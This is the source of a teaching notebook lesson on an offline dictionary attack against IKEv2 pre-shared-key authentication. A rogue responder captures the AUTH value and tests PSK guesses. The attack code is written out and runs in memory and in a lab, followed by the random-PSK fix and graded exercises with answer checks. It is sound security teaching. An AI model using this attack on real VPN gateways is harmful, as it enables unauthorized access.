"""Lesson 08f, weak PSK: an offline dictionary attack on IKEv2's PSK authentication
(RFC 7296 §2.15) by a rogue responder, and a random 32-byte PSK as the fix.
"""

from __future__ import annotations

from .attack_cells import IKE_ENGINES, ROOT_CHECK, scope
from .cells import SETUP_INLINE, code, md

CELLS = [
    md("""
    # 08f: Weak PSK, an offline dictionary attack on IKEv2

    **Learning goals.** After this lesson you can

    * write out the PSK authentication of IKEv2, AUTH = prf(prf(PSK, "Key Pad for IKEv2"),
      <InitiatorSignedOctets>) (RFC 7296 §2.15), and say which of its inputs an attacker
      gets for free;
    * explain why whoever answers IKE_SA_INIT (a rogue responder on the path) can test PSK
      guesses offline, two PRF calls each, without talking to anyone again;
    * run the attack in the lab, measure guesses per second, extrapolate to real password
      lists, and see it fail against a 32-byte random PSK.

    Only the cells marked *lab* need root; the rest runs two IKE engines in memory.
    """),
    scope("mallory, the router between the two sites, answers gw1's IKE_SA_INIT in gw2's"
          " name and tests PSK guesses against the AUTH value gw1 sends."),
    SETUP_INLINE,
    ROOT_CHECK,
    md("""
    ## The weak configuration

    Both gateways authenticate with a pre-shared key (`auth = psk`). In the weak
    configuration it is a word a person chose; in the recommended one, 32 random octets
    written in hex. RFC 7296 §2.15 calls a key derived only from a user-chosen password
    "typically insecure": it will not resist a dictionary attack. The PSK should be as
    unpredictable as the strongest key it protects.
    """),
    code("""
    from ipseclab.attacks import weak_psk
    from ipseclab.attacks.common import config_dir

    for config in ("weak", "recommended"):
        conf = config_dir("weak-psk", config) / "gw1.swanctl.conf"
        secret = next(line.strip() for line in conf.read_text().splitlines()
                      if line.strip().startswith("secret ="))
        print(f"{config:12} gw1: {secret}")
    print("mallory's word list:", len(weak_psk.load_words()), "ordinary words,"
          " generated for the lab")
    """),
    md("""
    ## gw1 talks to a rogue responder (in memory)

    gw1 wants to reach gw2 and sends IKE_SA_INIT to gw2's address. Mallory, on the path,
    answers it with an IKE engine of its own (`topologies/attacks/weak-psk/rogue.swanctl.conf`:
    gw2's identity, a PSK mallory does not know). IKE_SA_INIT authenticates nobody (§1.2):
    gw1 completes the Diffie-Hellman exchange with mallory and derives the IKE SA's keys,
    the same ones mallory has. Then gw1 sends IKE_AUTH, encrypted with SK_ei, *for
    mallory*. Here both engines run in this process; the lab below does it on the wire.
    """),
    IKE_ENGINES,
    code("""
    from ipseclab.attacks.ike_common import SaInit

    gw1 = engine(config_dir("weak-psk", "weak") / "gw1.swanctl.conf")
    rogue = engine(weak_psk.ROGUE, report_keys=True)  # report its keys after IKE_SA_INIT

    gw1.initiate("site", 0.0)
    [(request, _, _)] = gw1.datagrams_to_send()  # IKE_SA_INIT request: SA, KE, Ni
    rogue.receive_datagram(request, GW1, GW2, 0.0)
    [(response, _, _)] = rogue.datagrams_to_send()  # mallory's answer: SA, KE, Nr
    gw1.receive_datagram(response, GW2, GW1, 0.01)
    [(auth_request, _, _)] = gw1.datagrams_to_send()  # IKE_AUTH: SK{IDi, AUTH, SA, TS...}

    [derived] = [e for e in iter(rogue.next_event, None)
                 if isinstance(e, events.IkeSaKeysDerived)]
    keys = all_keys(derived)
    init = SaInit.from_messages([request, response])
    goal = weak_psk.target(init, keys, auth_request)  # opens IKE_AUTH with SK_ei
    print("gw1's identity (IDi):", goal.identity.decode())
    print("gw1's AUTH:          ", goal.auth.hex())
    print("PRF of the IKE SA:   ", goal.prf)
    """),
    md("""
    ## AUTH, written out (RFC 7296 §2.15)

    For a PSK the initiator sends

        AUTH = prf( prf(PSK, "Key Pad for IKEv2"), <InitiatorSignedOctets> )
        InitiatorSignedOctets = RealMessage1 | NonceRData | MACedIDForI
        MACedIDForI = prf(SK_pi, RestOfInitIDPayload)

    `RealMessage1` is gw1's IKE_SA_INIT request as sent, `NonceRData` the responder's
    nonce (mallory's own), `RestOfInitIDPayload` the ID type, three reserved octets and the
    identity. Everything but the PSK is known to mallory: the request crossed its path, the
    nonce and SK_pi are its own. We build the octets by hand and check one guess.
    """),
    code("""
    prf = init.suite.prf
    id_body = bytes([2, 0, 0, 0]) + goal.identity  # ID_FQDN (2), RESERVED, the identity
    signed_octets = init.request + init.nr + prf.prf(keys.SK_pi, id_body)
    assert signed_octets == goal.signed_octets
    print(f"InitiatorSignedOctets: {len(init.request)} + {len(init.nr)} +"
          f" {len(prf.prf(keys.SK_pi, id_body))} = {len(signed_octets)} octets")

    guess = "winter2024"
    key = prf.prf(guess.encode(), weak_psk.PAD)  # prf(PSK, "Key Pad for IKEv2")
    auth = prf.prf(key, signed_octets)
    print(f"AUTH for {guess!r}: {auth.hex()}")
    print("matches gw1's AUTH:", auth == goal.auth)
    assert auth == goal.auth
    """),
    md("""
    Two PRF calls per guess, no network, no lockout, no log entry on gw2 (gw2 never saw
    the exchange). The search is a loop over a word list: `weak_psk.search`.
    """),
    code("""
    words = weak_psk.load_words()
    found, tried, seconds = weak_psk.search(goal, words)
    _, everything, full = weak_psk.search(weak_psk.Target(prf, signed_octets, b"", b""), words)
    rate = everything / full
    print(f"found {found!r} after {tried} of {len(words)} words in {seconds * 1000:.1f} ms")
    print(f"{rate:,.0f} guesses/s on one core, in Python")
    """),
    md("""
    ## How far that goes

    A real leaked-password list has some 14 million entries (`weak_psk.REAL_LIST`); a GPU
    computes HMAC-SHA-256 some ten thousand times faster than this loop. A random PSK of 32
    octets has 2^256 values: on average 2^255 guesses.
    """),
    code("""
    YEAR = 365.25 * 86400
    print(f"14 million words:        {weak_psk.REAL_LIST / rate:10,.0f} s at {rate:,.0f}/s")
    for name, space in (("8 lowercase letters", 26 ** 8), ("10 of 94 printable", 94 ** 10),
                        ("32 random octets", 2 ** 256)):
        print(f"{name:24} {space / 2 / rate / YEAR:10.3g} years (half the space)")
    """),
    md("""
    ## The attack in the lab (root)

    `weak_psk.run(lab)`: the `on-path-attacker` topology with both gateways running IKEv2
    (`impl: ipseclab`, `start_action = trap`). mallory's rogue responder takes over gw2's
    address inside mallory's namespace (`ipseclab.attacks.rogue_responder`), h1 sends a
    datagram to h2, gw1's trap starts IKE, and mallory gets IKE_AUTH, then searches the
    list. The lab's files go to a temporary directory that is removed afterwards.
    """),
    code("""
    import tempfile
    from pathlib import Path

    from ipseclab.attacks.ike_common import ike_lab

    if ROOT:
        with (tempfile.TemporaryDirectory(prefix="nb08f-") as tmp,
              ike_lab("weak-psk", "weak", Path(tmp) / "lab") as lab):
            weak = weak_psk.run(lab, config="weak")
            gw1_log = (lab.workdir / "gw1" / "gateway.log").read_text()
        print(weak.report())
        print()
        for line in gw1_log.splitlines():
            if "keys derived" in line or "authentication failed" in line:
                print("gw1:", line.split(" ipseclab.")[-1])
        assert weak.succeeded and weak.details["psk"] == "winter2024"
    else:
        print(NOT_ROOT)
    """),
    md("""
    gw1's own log shows what happened to it: an IKE SA with "gw2" got its keys, and then
    gw2 (mallory) refused gw1's AUTH. That failure is all gw1 sees; the PSK is gone.
    With certificates (`auth = pubkey`) AUTH is a signature: there is no small secret in it
    to guess offline.

    ## The fix fails the attack

    The recommended configuration has a PSK of 32 random octets. Same rogue, same list.
    """),
    code("""
    strong = engine(config_dir("weak-psk", "recommended") / "gw1.swanctl.conf")
    rogue = engine(weak_psk.ROGUE, report_keys=True)
    strong.initiate("site", 0.0)
    [(request, _, _)] = strong.datagrams_to_send()
    rogue.receive_datagram(request, GW1, GW2, 0.0)
    [(response, _, _)] = rogue.datagrams_to_send()
    strong.receive_datagram(response, GW2, GW1, 0.01)
    [(auth_request, _, _)] = strong.datagrams_to_send()
    [derived] = [e for e in iter(rogue.next_event, None)
                 if isinstance(e, events.IkeSaKeysDerived)]
    init2 = SaInit.from_messages([request, response])
    goal2 = weak_psk.target(init2, all_keys(derived), auth_request)
    found2, tried2, _ = weak_psk.search(goal2, words)
    print(f"in memory: {tried2} words tried, found: {found2}")
    assert found2 is None

    if ROOT:
        with (tempfile.TemporaryDirectory(prefix="nb08f-") as tmp,
              ike_lab("weak-psk", "recommended", Path(tmp) / "lab") as lab):
            fixed = weak_psk.run(lab, config="recommended")
        print(fixed.report())
        assert not fixed.succeeded and fixed.details["psk"] is None
    else:
        print(NOT_ROOT)
    """),
    md("""
    ## Your turn 1: one guess by hand

    The attacker tries `"summer2024"`. Compute its AUTH with the two PRF calls of §2.15 and
    say whether it matches gw1's (`goal.auth`).
    """),
    code("""
    my_key = prf.prf(b"summer2024", b"Key Pad for IKEv2")  # your answer: the two PRF calls
    my_auth = prf.prf(my_key, signed_octets)
    my_match = False  # your answer
    """),
    code("""
    expected = weak_psk.Target(prf, signed_octets, goal.auth, goal.identity)
    assert my_auth == prf.prf(prf.prf(b"summer2024", weak_psk.PAD), signed_octets)
    assert my_match == (weak_psk.search(expected, ["summer2024"])[0] is not None)
    print("correct: 'summer2024' gives", my_auth.hex()[:16], "..., not gw1's AUTH")
    """),
    md("""
    ## Your turn 2: the extrapolation

    At the rate measured above, how many seconds does the whole space of 6-character
    passwords of lowercase letters and digits (36^6) take, in the worst case?
    """),
    code("""
    my_seconds = 36 ** 6 / rate  # your answer
    """),
    code("""
    assert abs(my_seconds - 36 ** 6 / rate) <= 0.01 * 36 ** 6 / rate
    print(f"correct: {my_seconds:,.0f} s, {my_seconds / 3600:.1f} hours on one core in Python")
    """),
    md("""
    ## Summary

    * PSK authentication in IKEv2 is AUTH = prf(prf(PSK, "Key Pad for IKEv2"),
      <InitiatorSignedOctets>) (RFC 7296 §2.15). Whoever completes IKE_SA_INIT with the
      initiator can open its IKE_AUTH and knows every input but the PSK.
    * The initiator authenticates first (§1.2), so a rogue responder on the path gets one
      AUTH value and tests guesses offline, two PRF calls each: hundreds of thousands per
      second in Python, billions on GPUs. A word from a list falls at once.
    * The fix: a PSK of 32 random octets (§2.15), or certificates (`auth = pubkey`). The
      search then finds nothing in any time that matters.
    """),
]
